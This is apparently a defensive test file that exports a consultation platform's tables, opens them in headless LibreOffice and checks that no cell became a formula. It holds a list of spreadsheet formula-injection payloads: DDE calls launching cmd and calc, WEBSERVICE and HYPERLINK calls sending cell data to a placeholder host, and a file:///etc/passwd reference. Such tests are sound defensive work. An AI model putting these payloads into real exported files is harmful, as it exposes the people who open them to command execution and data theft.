// By hand: node tests/trials/libreoffice.ts. Opens every table that we give out in LibreOffice, as somebody at a ministry does, and counts
// what it took for a formula. A file with one planted formula of each kind must be counted, or the trial says nothing.
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { exportFiles } from '#reports/export/exporting.server.ts';
import { runSheetStep } from '#sheets/running.server.ts';
import { uploadSheet } from '#sheets/uploading.server.ts';
import { mark } from '../hostile.ts';
import { address, database, files, keys, product, slug, staff, topicId } from '../hostile-ways-in.ts';
import { signedInAs } from '../world.ts';

const acts = [
	...[
		`1+1`,
		`SUM(1;1)`,
		`1+1|'${mark}'!A1`,
		`cmd|' /C calc'!A0`,
		`DDE("cmd";"/C calc";"${mark}")`,
		`MSEXCEL|'\\..\\..\\cmd.exe'!'${mark}'`
	],
	...[
		`HYPERLINK("https://${mark}.example/?"&A1;"${mark}")`,
		`WEBSERVICE("https://${mark}.example/")`,
		`IMPORTXML("${mark}";"//a")`
	],
	...[`IF(TRUE();"${mark}";0)`, `CONCATENATE("${mark}";1)`, `INDIRECT("A1")`, `NOW()`, `'file:///etc/passwd'#$${mark}.A1`]
];
const openings = [
	'=',
	'+',
	'-',
	'@',
	'\t=',
	'\r=',
	'\n=',
	' =',
	'"=',
	'\u0000='.slice(1),
	'＝',
	'＋',
	'－',
	'＠',
	'\ufeff=',
	'\u00a0=',
	';=',
	',=',
	'\';="'
];
const vectors = [...new Set(openings.flatMap((opening) => acts.map((act) => opening + act)))];

test('LibreOffice finds no formula in what we give out, and all that are planted', async () => {
	const folder = mkdtempSync(join(tmpdir(), 'open-talks-libreoffice-'));
	try {
		await fill();
		const [ours, planted] = [join(folder, 'ours'), join(folder, 'planted')];
		for (const one of [ours, planted]) mkdirSync(one);
		await fetchInto(ours);
		plantInto(planted);
		const seen = look(ours, join(folder, 'converted'));
		const control = look(planted, join(folder, 'control'));
		const holds =
			seen.formulas === 0 && seen.marks >= vectors.length && seen.files === readdirSync(ours).length && control.formulas === 2;
		console.log(JSON.stringify({ trial: 'libreoffice', ...seen, vectors: vectors.length, planted: control.formulas, holds }));
		if (!holds) process.exitCode = 1;
	} finally {
		rmSync(folder, { recursive: true, force: true });
	}
});

/** Every vector in every field of a table that brings ideas in, and of one that brings in texts; by a table with mistakes, in its remarks. */
async function fill(): Promise<void> {
	const cells = (rows: readonly (readonly string[])[]) =>
		Buffer.from(rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')).join('\r\n'));
	for (const [kind, headings] of [
		['ideas', ['Point', 'Explanation', 'Sources', 'Name', 'Organisation']],
		['submissions', ['Title', 'Text', 'Abstract', 'Keywords', 'Name', 'Organisation']]
	] as const) {
		const rows = vectors.map((vector, index) =>
			headings.map((_, column) => vectors[(index + column) % vectors.length] ?? vector)
		);
		await bringIn(kind, cells([[...headings, 'Language'], ...rows.map((row) => [...row, 'en'])]));
	}
	wrong = await upload('ideas', cells([['Point', 'Country'], ...vectors.map((vector) => [vector, vector])]));
}
let wrong = '';

async function upload(kind: 'ideas' | 'submissions', bytes: Buffer): Promise<string> {
	const { sha256 } = await files.put([bytes], { mediaType: 'text/csv', limit: 10_000_000 });
	const { sheetId } = await uploadSheet(database, { topicId, kind, sha256, fileName: '=1+1.csv' }, staff);
	await runSheetStep(database, { keys, files, origin: address }, 'preview', { topicId, sheetId });
	return sheetId;
}

async function bringIn(kind: 'ideas' | 'submissions', bytes: Buffer): Promise<void> {
	const sheetId = await upload(kind, bytes);
	await runSheetStep(database, { keys, files, origin: address }, 'import', { topicId, sheetId });
}

/** Everybody's tables, and those that staff take from the desk. */
async function fetchInto(folder: string): Promise<void> {
	const secretariat = await signedInAs(product, 'secretariat');
	const rapporteur = await signedInAs(product, 'rapporteur');
	const fetched = async (path: string, cookie: string) => {
		const answer = await fetch(address + path, { headers: { cookie } });
		if (!answer.ok) throw new Error(`${path}: ${answer.status}`);
		return Buffer.from(await answer.arrayBuffer());
	};
	const keep = (name: string, bytes: Uint8Array) => writeFileSync(join(folder, name), bytes);
	for (const name of exportFiles.filter((file) => /\.(?:csv|xlsx)$/.test(file)))
		keep(name, await fetched(`/topics/${slug}/export/${name}`, ''));
	for (const [name, part] of Object.entries(unzipSync(await fetched(`/topics/${slug}/export/topic.zip`, ''))))
		if (name.endsWith('.csv')) keep(`zip-${name.replaceAll('/', '-')}`, part);
	keep('activity.csv', await fetched(`/desk/topics/${slug}/activity.csv`, secretariat));
	keep('remarks.csv', await fetched(`/desk/topics/${slug}/sheets/${wrong}/remarks`, rapporteur));
}

/** What the same vectors would be in a table that guards nothing. */
function plantInto(folder: string): void {
	writeFileSync(join(folder, 'planted.csv'), 'a,b\r\n=1+1,text\r\n');
	const rels = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
	const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
	const types = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
	const parts = {
		'[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="${types}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${types}.worksheet+xml"/></Types>`,
		'_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${rels}/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
		'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${rels}"><sheets><sheet name="a" sheetId="1" r:id="a"/></sheets></workbook>`,
		'xl/_rels/workbook.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="${rels}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
		'xl/worksheets/sheet1.xml': `<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>`
	};
	writeFileSync(
		join(folder, 'planted.xlsx'),
		zipSync(Object.fromEntries(Object.entries(parts).map(([name, text]) => [name, strToU8(text)])))
	);
}

/** As flat XML, in which a cell says of itself that it is a formula. */
function look(folder: string, converted: string) {
	const names = readdirSync(folder).sort();
	// one by one in folders of their own: ideas.csv and ideas.xlsx would be one file
	for (const name of names) {
		const { status, stderr } = spawnSync(
			'soffice',
			[
				...['--headless', `-env:UserInstallation=file://${converted}-profile`, '--convert-to', 'fods'],
				// UTF-8, comma, quotes; formulas as LibreOffice takes them by itself
				...(name.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1'] : []),
				...['--outdir', join(converted, name), join(folder, name)]
			],
			{ encoding: 'utf8', timeout: 120_000 }
		);
		if (status !== 0) throw new Error(`soffice on ${name}: ${stderr}`);
	}
	let [cells, formulas, marks, read] = [0, 0, 0, 0];
	for (const name of names)
		for (const one of readdirSync(join(converted, name))) {
			const xml = readFileSync(join(converted, name, one), 'utf8');
			read++;
			cells += xml.match(/<table:table-cell[^>]*office:value-type/g)?.length ?? 0;
			const found = xml.match(/table:formula="[^"]*"/g) ?? [];
			if (found.length > 0) console.error(`${name}: ${found.slice(0, 5).join(' ')}`);
			formulas += found.length;
			marks += xml.split(mark).length - 1;
		}
	return { files: read, cells, marks, formulas };
}
